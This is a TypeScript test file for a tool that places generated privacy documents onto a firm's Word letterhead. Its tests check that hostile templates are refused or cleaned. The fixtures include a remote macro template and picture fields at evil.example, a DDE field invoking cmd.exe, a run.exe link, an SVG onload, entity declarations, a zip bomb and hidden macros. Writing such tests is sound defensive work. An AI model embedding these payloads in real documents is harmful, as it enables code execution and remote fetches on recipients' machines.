import { spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import mammoth from 'mammoth';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCommandLine } from '../../src/main/cli/run';
import { letterheadOf } from '../../src/main/export/letterhead';
import { attachFiles } from '../../src/main/keeper/attach';
import { closeClient, makeClient, openClient } from '../../src/main/keeper/file-methods';
import { letterheadFrom } from '../../src/main/keeper/letterhead';
import { methods } from '../../src/main/keeper/methods';
import { startSession } from '../../src/main/keeper/session';
import { readLetterhead } from '../../src/main/render/letterhead';
import { docxVolumes, renderVolumes } from '../../src/main/render/word';
import { makeDocument } from '../../src/shared/documents';
import { documentOptionsSchema } from '../../src/shared/documents/options';
import { registerSchema } from '../../src/shared/register/register';
import { changed, letterheadOfFirm, logo, plainLetterhead } from './fixtures/letterheads';
import { childrenOf, faultOf, partsOf } from './fixtures/parts';
import { agreed, registerOf } from './support/client-file';

const register = registerSchema.parse(JSON.parse(readFileSync('resources/samples/bakery.json', 'utf8')));

/** A published document in Word, on a letterhead when there is one. */
async function made(
  template: Uint8Array | null,
  document: 'notice' | 'cookies' | 'subProcessors' = 'notice',
  language: 'en' | 'nl' | 'fr' = 'en',
): Promise<Uint8Array> {
  const options = documentOptionsSchema.parse({ document, language, date: '2026-11-22' });
  const paper = template === null ? null : letterheadOf({ name: 'paper.docx', bytes: template });
  const volumes = docxVolumes(makeDocument(register, options));
  for await (const bytes of renderVolumes(volumes, undefined, null, paper)) return bytes;
  throw new Error('nothing was made');
}

const faultIn = (file: Uint8Array): string => {
  const read = readLetterhead(file);
  return read.ok ? 'none' : read.fault;
};
const picture = (id: string, attribute = 'r:embed'): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900" cy="900"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}="${id}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const image = (target: string, more = ''): string =>
  `<Relationship Id="p1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${target}"${more}/>`;
const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (instruction: string, result: string): string =>
  `<w:p>${mark('begin')}${instruction
    .split('|')
    .map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`)
    .join('')}${mark('separate')}<w:r><w:t>${result}</w:t></w:r>${mark('end')}</w:p>`;
const headerOf = (file: Uint8Array, type = 'default'): string =>
  partsOf(file).get(`word/letterhead-header-${type}.xml`) ?? '';

describe('A notice on the paper of a firm', () => {
  let template = new Uint8Array();
  let file = new Uint8Array();
  let parts: ReadonlyMap<string, string> = new Map();
  beforeAll(async () => {
    template = new Uint8Array(await letterheadOfFirm());
    file = new Uint8Array(await made(template));
    parts = partsOf(file);
  });
  const part = (path: string): string => parts.get(path) ?? '';

  test('says the same, to another reader, as without one', async () => {
    const read = async (bytes: Uint8Array): Promise<string> =>
      (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value;
    // Contents on a letterhead have links and no numbers: its pages are its own.
    const words = (text: string): string => text.slice(text.lastIndexOf('Short text for a form'));
    const own = await read(file);
    expect(words(own).length).toBeGreaterThan(200);
    expect(words(own)).toBe(words(await read(await made(null))));
    expect(own).not.toContain('Dear Sir');
  });

  test('has the header and the logo of the first page, and those of the next ones', () => {
    const [section = ''] = /<w:sectPr.*<\/w:sectPr>/s.exec(part('word/document.xml')) ?? [];
    const relations = new Map(
      [...part('word/_rels/document.xml.rels').matchAll(/Id="([^"]+)"[^>]*Target="([^"]+)"/g)].map(
        ([, id, target]) => [id, target],
      ),
    );
    const named = (kind: string, type: string): string => {
      const id = new RegExp(`<w:${kind}Reference w:type="${type}" r:id="([^"]+)"`).exec(section)?.[1];
      return part(`word/${relations.get(id)}`);
    };
    expect(named('header', 'first')).toContain('founded in 1893');
    expect(named('header', 'default')).toContain('next page');
    expect(named('footer', 'first')).toContain('Quay 1, Ghent');
    expect(named('footer', 'default')).toMatch(/<w:instrText[^>]*>\s*PAGE/);
    expect(section).toContain('<w:titlePg/>');
    const embedded = /r:embed="([^"]+)"/.exec(named('header', 'first'))?.[1];
    expect(part('word/_rels/letterhead-header-first.xml.rels')).toContain(
      `Id="${embedded}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/letterhead1.png"`,
    );
    expect(Buffer.from(unzipSync(file)['word/media/letterhead1.png'] ?? [])).toEqual(logo(140, 20, 60));
    expect(part('word/_rels/letterhead-footer-default.xml.rels')).toContain(
      'Target="https://lettrine.example/" TargetMode="External"',
    );
  });

  test('takes the page of the letterhead, and its tables the width between the margins', () => {
    const body = part('word/document.xml');
    expect(body).toContain('<w:pgSz w:w="11906" w:h="16838"/>');
    expect(body).toContain('w:left="2400"');
    const widths = [...body.matchAll(/<w:tblW w:w="(\d+)"/g)].map(([, width]) => Number(width));
    expect(widths.length).toBeGreaterThan(10);
    // 11906 less the margins of 1700 and 2400.
    expect(Math.max(...widths)).toBe(7806);
    for (const [, grid = ''] of body.matchAll(/<w:tblGrid>(.*?)<\/w:tblGrid>/g)) {
      const sum = [...grid.matchAll(/w:w="(\d+)"/g)].reduce((all, [, width]) => all + Number(width), 0);
      expect(widths).toContain(sum);
    }
    expect(body).not.toContain('PAGEREF');
  });

  test('looks as the letterhead does, without its page breaks and beside our own styles', () => {
    const styles = part('word/styles.xml');
    const style = (id: string): string =>
      new RegExp(`<w:style [^>]*w:styleId="${id}".*?</w:style>`, 's').exec(styles)?.[0] ?? '';
    expect(style('Heading1')).toContain('<w:basedOn w:val="LHHeading1"/>');
    expect(style('Heading1')).toContain('<w:outlineLvl w:val="0"/>');
    expect(style('Heading1')).not.toContain('0B5563');
    expect(style('LHHeading1')).toContain('8C143C');
    expect(style('LHHeading1')).not.toContain('pageBreakBefore');
    expect(style('Title')).toContain('<w:basedOn w:val="LHTitle"/>');
    // Both call a style Item; each keeps its own.
    expect(style('Item')).toContain('w:hanging="227"');
    expect(style('LHItem')).toContain('<w:sz w:val="16"/>');
    expect(headerOf(file, 'first')).toContain('<w:pStyle w:val="LHItem"/>');
    expect(styles).toContain('<w:rFonts w:ascii="Georgia"');
    // What the template says of all its text is said by the styles that rest on no other.
    expect(style('LHNormal')).toContain('w:after="160"');
    expect(part('word/document.xml')).not.toContain('E4EEF0');
  });

  test('is a file that no program has to mend', () => {
    for (const [path, text] of parts)
      if (/\.(xml|rels)$/.test(path)) expect([path, faultOf(text)]).toEqual([path, null]);
    const types = part('[Content_Types].xml');
    for (const path of parts.keys()) {
      const ending = path.split('.').at(-1);
      const isNamed = types.includes(`PartName="/${path}"`) || types.includes(`Extension="${ending}"`);
      expect([path, isNamed]).toEqual([path, true]);
    }
    for (const [path, text] of parts) {
      if (!path.endsWith('.rels')) continue;
      const ids = [...text.matchAll(/ Id="([^"]+)"/g)].map(([, id]) => id);
      expect(new Set(ids).size).toBe(ids.length);
      const folder = path.replace(/_rels\/[^/]*$/, '');
      for (const [tag, target = ''] of text.matchAll(/<Relationship [^>]*Target="([^"]+)"[^>]*>/g))
        if (!tag.includes('External'))
          expect([path, parts.has(target.startsWith('/') ? target.slice(1) : folder + target)]).toEqual([
            path,
            true,
          ]);
    }
    const styles = part('word/styles.xml');
    for (const what of [/w:styleId="([^"]+)"/g, /<w:name w:val="([^"]+)"/g]) {
      const found = [...styles.matchAll(what)].map(([, each = '']) => each.toLowerCase());
      expect(found.filter((each, index) => found.indexOf(each) !== index)).toEqual([]);
    }
    // The library names the style that every program has by itself.
    for (const [, based] of styles.matchAll(/<w:basedOn w:val="([^"]+)"/g))
      if (based !== 'DefaultParagraphFont') expect(styles).toContain(`w:styleId="${based}"`);
    const ids = [...parts]
      .filter(([path]) => path.includes('letterhead-'))
      .flatMap(([, text]) => [...text.matchAll(/<wp:docPr [^>]*?id="(\d+)"/g)].map(([, id]) => id));
    expect(new Set(ids).size).toBe(ids.length);
  });

  test('has the elements of a section and of a style in the order of the standard', () => {
    const order =
      'headerReference footerReference footnotePr endnotePr type pgSz pgMar paperSrc pgBorders lnNumType pgNumType cols formProt vAlign noEndnote titlePg textDirection bidi rtlGutter docGrid printerSettings'
        .split(' ')
        .map((name) => `w:${name}`);
    const [section = ''] = /<w:sectPr.*<\/w:sectPr>/s.exec(part('word/document.xml')) ?? [];
    const places = childrenOf(section).map((name) =>
      name === 'w:footerReference' ? 0 : order.indexOf(name),
    );
    expect(places).toEqual([...places].sort((a, b) => a - b));
    expect(places).not.toContain(-1);
    const inStyle = 'name basedOn next link uiPriority semiHidden unhideWhenUsed qFormat pPr rPr tblPr'
      .split(' ')
      .map((name) => `w:${name}`);
    for (const [style] of part('word/styles.xml').matchAll(/<w:style .*?<\/w:style>/gs)) {
      const found = childrenOf(style).map((name) => inStyle.indexOf(name));
      expect([style, found]).toEqual([style, [...found].sort((a, b) => a - b)]);
    }
  });

  test('is the same bytes each time', async () => {
    expect(Buffer.from(await made(template))).toEqual(Buffer.from(file));
  });
});

describe('What a template does not have, and what it has too much', () => {
  test('Without a footer ours stays, on its first page too', async () => {
    const parts = partsOf(await made(plainLetterhead(), 'cookies'));
    const body = parts.get('word/document.xml') ?? '';
    expect(body).toContain('<w:headerReference w:type="default" r:id="lh-header-default"/>');
    expect(body).toContain('<w:headerReference w:type="first" r:id="lh-header-default"/>');
    const footer = /<w:footerReference w:type="first" r:id="([^"]+)"/.exec(body)?.[1];
    expect(parts.get('word/_rels/document.xml.rels')).toMatch(
      new RegExp(`Id="${footer}"[^>]*Target="footer\\d\\.xml"`),
    );
    expect(parts.get('word/footer1.xml')).toContain('Bakkerij Kruimelaarde');
  });

  test('Without any header or footer ours stay', async () => {
    const parts = partsOf(await made(plainLetterhead({ header: null })));
    expect([...parts.keys()].filter((path) => path.includes('letterhead-'))).toEqual([]);
    expect(parts.get('word/document.xml')).toContain('<w:titlePg/>');
  });

  test('A template (.dotx) is as good as a document', () => {
    const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml';
    expect(faultIn(plainLetterhead({ type }))).toBe('none');
  });

  test('Marks, numbering and answers of forms that point into the template stay behind', async () => {
    const header =
      '<w:sdt><w:sdtPr><w:id w:val="5"/><w:dataBinding w:xpath="/a"/></w:sdtPr><w:sdtContent><w:p><w:pPr><w:jc w:val="right"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="7"/></w:numPr><w:pStyle w:val="Nowhere"/></w:pPr><w:bookmarkStart w:id="0" w:name="p0"/><w:ins w:id="3" w:author="x"><w:r><w:rPr><w:sz w:val="20"/><w:b/></w:rPr><w:t>Kept words</w:t></w:r></w:ins><w:del w:id="4" w:author="x"><w:r><w:delText>gone</w:delText></w:r></w:del><w:bookmarkEnd w:id="0"/><w:commentReference w:id="9"/></w:p></w:sdtContent></w:sdt><w:tbl><w:tr><w:tc><w:tcPr><w:tcW w:w="abc" w:type="dxa"/></w:tcPr></w:tc></w:tr></w:tbl>';
    const xml = headerOf(await made(plainLetterhead({ header })));
    expect(xml).toContain('Kept words');
    expect(xml).not.toMatch(/sdt|numPr|bookmark|w:ins|delText|comment|Nowhere|abc/);
    // In order, and each place for text ends with a paragraph.
    expect(xml).toContain('<w:rPr><w:b/><w:sz w:val="20"/></w:rPr>');
    expect(xml).toMatch(/<w:tc>.*<w:p>.*<\/w:tc>.*<\/w:tbl><w:p>/s);
    expect(faultOf(xml)).toBeNull();
  });

  test('Of a field that only Word with the template can work out, its last result stays', async () => {
    const header = field('STYLEREF "Heading 9"', 'Chapter') + field(' PA|GE ', '4');
    const xml = headerOf(await made(plainLetterhead({ header })));
    expect(xml).toContain('Chapter');
    expect(xml).not.toContain('STYLEREF');
    expect(xml.match(/w:fldCharType/g)).toHaveLength(3);
  });

  test('Colours and typefaces of its theme are said outright', async () => {
    const theme =
      '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:clrScheme name="x"><a:accent1><a:srgbClr val="117733"/></a:accent1></a:clrScheme><a:fontScheme name="x"><a:majorFont><a:latin typeface="Rockwell"/></a:majorFont><a:minorFont><a:latin typeface="Verdana"/></a:minorFont></a:fontScheme></a:themeElements></a:theme>';
    const relations =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="h1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header" Target="header1.xml"/><Relationship Id="s1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="t1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/theme" Target="theme1.xml"/></Relationships>';
    const styles =
      '<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/></w:rPr></w:rPrDefault></w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Standaard"><w:name w:val="Normal"/></w:style><w:style w:type="paragraph" w:styleId="Kop1"><w:name w:val="heading 1"/><w:basedOn w:val="Standaard"/><w:rPr><w:rFonts w:asciiTheme="majorHAnsi"/><w:color w:val="auto" w:themeColor="accent1"/></w:rPr></w:style>';
    const file = await made(
      plainLetterhead({
        styles,
        more: { 'word/theme1.xml': theme, 'word/_rels/document.xml.rels': relations },
      }),
    );
    const made1 = partsOf(file).get('word/styles.xml') ?? '';
    expect(made1).toContain('<w:basedOn w:val="LHKop1"/>');
    expect(made1).toMatch(/w:styleId="LHKop1".*?w:ascii="Rockwell".*?<w:color w:val="117733"\/>/s);
    expect(made1).toContain('w:ascii="Verdana"');
    expect(made1).not.toMatch(/LH[^>]*>(?:(?!<\/w:style>).)*(Theme=|themeColor)/s);
  });

  test('A style that rests on itself ends somewhere', () => {
    const circle = (id: string, on: string): string =>
      `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${on}"/></w:style>`;
    const header = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>';
    const styles = circle('A', 'B') + circle('B', 'A') + circle('C', 'C');
    expect(faultIn(plainLetterhead({ header, styles }))).toBe('none');
  });

  test('A link that is no address of the web stays as text', async () => {
    const header = '<w:p><w:hyperlink r:id="p1"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>';
    const relations =
      '<Relationship Id="p1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///c:/run.exe" TargetMode="External"/>';
    const parts = partsOf(await made(plainLetterhead({ header, relations })));
    expect(parts.get('word/letterhead-header-default.xml')).toContain('click');
    expect([...parts.values()].some((text) => text.includes('run.exe'))).toBe(false);
  });

  test('The template that a document is attached to is not followed', async () => {
    const more = {
      'word/_rels/settings.xml.rels':
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    };
    const parts = partsOf(await made(plainLetterhead({ more })));
    expect([...parts.values()].some((text) => text.includes('evil.example'))).toBe(false);
  });
});

describe('What cannot be a letterhead is refused', () => {
  const object = '<w:p><w:r><w:object><o:OLEObject ProgID="Excel.Sheet" r:id="p1"/></w:object></w:r></w:p>';
  const compound = (text: string): Uint8Array =>
    Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.from(text, 'utf16le')]);
  const bomb = (): Uint8Array => {
    const parts = unzipSync(plainLetterhead());
    return zipSync({ ...parts, 'word/header1.xml': new Uint8Array(60_000_000) });
  };
  test.each<readonly [string, string, () => Uint8Array]>([
    ['no zip', 'notALetterhead', () => strToU8('A text that somebody called .docx')],
    ['nothing', 'notALetterhead', () => new Uint8Array()],
    ['a zip of something else', 'notALetterhead', () => zipSync({ 'a.txt': strToU8('a') })],
    ['an old .doc', 'notALetterhead', () => compound('WordDocument')],
    ['a file with a password', 'letterheadEncrypted', () => compound('EncryptedPackage')],
    [
      'a document with macros',
      'letterheadMacros',
      () => plainLetterhead({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    [
      'a template with macros',
      'letterheadMacros',
      () => plainLetterhead({ type: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml' }),
    ],
    [
      'macros under a quiet name',
      'letterheadMacros',
      () => plainLetterhead({ more: { 'word/vbaProject.bin': 'x' } }),
    ],
    [
      'entities that grow',
      'notALetterhead',
      () => changed(plainLetterhead(), 'word/header1.xml', (text) => `<!DOCTYPE a [<!ENTITY b "c">]>${text}`),
    ],
    ['XML that does not close', 'notALetterhead', () => plainLetterhead({ header: '<w:p>' })],
    [
      'a part that is not there',
      'notALetterhead',
      () =>
        changed(plainLetterhead(), 'word/_rels/document.xml.rels', (text) =>
          text.replace('header1', 'header9'),
        ),
    ],
    ['a part that grows without end', 'letterheadTooLarge', bomb],
    [
      'a picture from elsewhere',
      'letterheadFetches',
      () =>
        plainLetterhead({
          header: picture('p1', 'r:link'),
          relations: image('https://evil.example/a.png', ' TargetMode="External"'),
        }),
    ],
    [
      'a picture from elsewhere that says it is inside',
      'letterheadFetches',
      () => plainLetterhead({ header: picture('p1'), relations: image('https://evil.example/a.png') }),
    ],
    [
      'a picture that is not there',
      'notALetterhead',
      () => plainLetterhead({ header: picture('p1'), relations: image('media/none.png') }),
    ],
    [
      'a picture that is none',
      'notALetterhead',
      () =>
        plainLetterhead({
          header: picture('p1'),
          relations: image('media/a.png'),
          more: { 'word/media/a.png': '<svg onload="x()"/>' },
        }),
    ],
    [
      'a field that fetches a picture',
      'letterheadFetches',
      () => plainLetterhead({ header: field('INCLUDEPICTURE "http://evil.example/a.png" \\d', 'x') }),
    ],
    [
      'a field written in pieces',
      'letterheadFetches',
      () => plainLetterhead({ header: field('DDE|AU|TO c:\\\\cmd.exe', 'x') }),
    ],
    [
      'a field inside another',
      'letterheadFetches',
      () =>
        plainLetterhead({
          header: `<w:p>${mark('begin')}<w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>${mark('begin')}<w:r><w:instrText> LINK Excel.Sheet "a" </w:instrText></w:r>${mark('end')}${mark('end')}</w:p>`,
        }),
    ],
    [
      'a short field that fetches',
      'letterheadFetches',
      () => plainLetterhead({ header: '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;a&quot; "/></w:p>' }),
    ],
    ['an object of another program', 'letterheadEmbeds', () => plainLetterhead({ header: object })],
    ['another file inside', 'letterheadEmbeds', () => plainLetterhead({ header: '<w:altChunk r:id="p1"/>' })],
    [
      'margins without room',
      'letterheadNarrow',
      () =>
        plainLetterhead({
          section:
            '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:left="5000" w:right="4000" w:top="0" w:bottom="0"/>',
        }),
    ],
    [
      'a document of the strict kind',
      'notALetterhead',
      () =>
        changed(plainLetterhead(), 'word/document.xml', (text) =>
          text.replace(
            'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
            'http://purl.oclc.org/ooxml/wordprocessingml/main',
          ),
        ),
    ],
  ])('%s', (_, fault, file) => {
    expect(faultIn(file())).toBe(fault);
  });
});

describe('griffier export --letterhead', () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'griffier-letterhead-'));
  });
  afterAll(() => {
    rmSync(folder, { recursive: true, force: true });
  });
  const griffier = async (...words: readonly string[]) => {
    const told: string[] = [];
    const code = await runCommandLine(words, {
      out: (text) => told.push(text.trim()),
      say: (text) => told.push(text),
      width: null,
      language: 'en',
      folder,
      user: 'test',
      now: () => new Date('2026-11-22T10:00:00Z'),
      worker: null,
      askHidden: null,
      firstLine: async () => null,
    });
    return { code, told: told.join('\n') };
  };
  const cookies = ['export', 'b.griffier', '--document', 'cookies', '--format', 'docx'] as const;

  test('makes the document on it; what cannot be one is told, and nothing is written', async () => {
    await griffier('new', 'b.griffier', '--sample', 'bakery');
    mkdirSync(join(folder, 'out'));
    writeFileSync(join(folder, 'paper.docx'), await letterheadOfFirm());
    const done = await griffier(...cookies, '--letterhead', 'paper.docx', '--out', 'out');
    expect(done.code).toBe(0);
    const [name = ''] = readdirSync(join(folder, 'out'));
    expect(headerOf(readFileSync(join(folder, 'out', name)), 'first')).toContain('Maison Lettrine');

    writeFileSync(join(folder, 'bad.docm'), plainLetterhead({ more: { 'word/vbaProject.bin': 'x' } }));
    const refused = await griffier(...cookies, '--letterhead', 'bad.docm', '--out', 'none');
    expect(refused.code).toBe(1);
    expect(refused.told).toContain('bad.docm holds macros');
    const gone = await griffier(...cookies, '--letterhead', 'gone.docx', '--out', 'none');
    expect(gone.code).toBe(1);
    expect(gone.told).toContain('gone.docx');
    expect(existsSync(join(folder, 'none'))).toBe(false);
  });

  test('the client file keeps its own: it is used unless another is named, or none', async () => {
    const session = startSession('Ann', undefined, () => new Date('2026-11-22T10:00:00.000Z'));
    const path = join(folder, 'own.griffier');
    try {
      agreed(await makeClient(session, path, register, { replace: false, password: null }));
      agreed(await openClient(session, path, null));
      const paths = [join(folder, 'own.docx')];
      writeFileSync(join(folder, 'own.docx'), await letterheadOfFirm());
      const steps = { isCancelled: () => false, onProgress: () => undefined };
      const { ids } = agreed(await attachFiles(session, { paths, to: null }, steps));
      const set = { do: 'set', noun: 'attachment', id: ids[0] ?? '', field: 'kind' } as const;
      agreed(
        await methods.change(session, {
          verb: 'edit',
          about: null,
          edits: [{ ...set, value: 'letterhead' }],
        }),
      );
    } finally {
      closeClient(session);
    }
    const own = ['export', 'own.griffier', '--document', 'cookies', '--format', 'docx'] as const;
    const first = async (out: string, ...more: readonly string[]): Promise<string> => {
      mkdirSync(join(folder, out));
      expect(await griffier(...own, ...more, '--out', out)).toMatchObject({ code: 0 });
      const [name = ''] = readdirSync(join(folder, out));
      return headerOf(readFileSync(join(folder, out, name)), 'first');
    };
    expect(await first('kept')).toContain('Maison Lettrine');
    expect(await first('without', '--letterhead', 'none')).toBe('');
  });

  test('belongs to what is published, in Word', async () => {
    const { code, told } = await griffier('export', 'b.griffier', '--letterhead', 'paper.docx');
    expect(code).toBe(2);
    expect(told).toContain('--letterhead');
  });
});

test('An attachment serves as a letterhead; one that is not whole, or too large, does not', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'griffier-letterhead-'));
  const session = startSession('Ann', undefined, () => new Date('2026-11-22T10:00:00.000Z'));
  try {
    const path = join(folder, 'client.griffier');
    agreed(await makeClient(session, path, registerOf({}), { replace: false, password: null }));
    agreed(await openClient(session, path, null));
    const template = await letterheadOfFirm();
    writeFileSync(join(folder, 'paper.docx'), template);
    writeFileSync(join(folder, 'large.docx'), new Uint8Array(20_000_001));
    const paths = [join(folder, 'paper.docx'), join(folder, 'large.docx')];
    const steps = { isCancelled: () => false, onProgress: () => undefined };
    const { ids } = agreed(await attachFiles(session, { paths, to: null }, steps));
    const [paper = '', large = ''] = ids;
    const read = agreed(await letterheadFrom(session, paper));
    expect(read.name).toBe('paper.docx');
    expect(Buffer.from(read.bytes)).toEqual(Buffer.from(template));
    expect(await letterheadFrom(session, large)).toMatchObject({
      ok: false,
      problem: { code: 'letterheadTooLarge', detail: 'large.docx' },
    });
    session.opened?.writer?.exec("UPDATE content_chunk SET data = X'00' WHERE place = 0");
    expect(await letterheadFrom(session, paper)).toMatchObject({
      ok: false,
      problem: { code: 'contentGone' },
    });
    expect(await letterheadFrom(session, 'nobody')).toMatchObject({ ok: false });
  } finally {
    closeClient(session);
    rmSync(folder, { recursive: true, force: true });
  }
});

const hasOffice = ['soffice', 'pdftotext'].every(
  (name) => spawnSync('sh', ['-c', `command -v ${name}`]).status === 0,
);

describe.skipIf(!hasOffice)('On the pages of LibreOffice', () => {
  test('the header of the first page stands there, and that of the others on each other page', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'griffier-letterhead-'));
    try {
      const template = await letterheadOfFirm();
      for (const language of ['en', 'nl'] as const)
        writeFileSync(join(folder, `${language}.docx`), await made(template, 'notice', language));
      const office = spawnSync(
        'soffice',
        [
          `-env:UserInstallation=file://${join(folder, 'profile')}`,
          '--headless',
          '--convert-to',
          'pdf',
          '--outdir',
          folder,
          join(folder, 'en.docx'),
          join(folder, 'nl.docx'),
        ],
        { encoding: 'utf8' },
      );
      expect(office.status).toBe(0);
      for (const language of ['en', 'nl']) {
        const text = spawnSync('pdftotext', ['-layout', join(folder, `${language}.pdf`), '-'], {
          encoding: 'utf8',
          maxBuffer: 50_000_000,
        }).stdout;
        const [first = '', ...others] = text.split('\f').filter((page) => page.trim() !== '');
        expect(first).toContain('founded in 1893');
        expect(first).toContain('Quay 1, Ghent');
        expect(others.length).toBeGreaterThan(5);
        for (const page of others) expect(page).toContain('Maison Lettrine, next page');
        expect(text).toContain(`Page ${others.length + 1}`);
      }
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  }, 300_000);
});
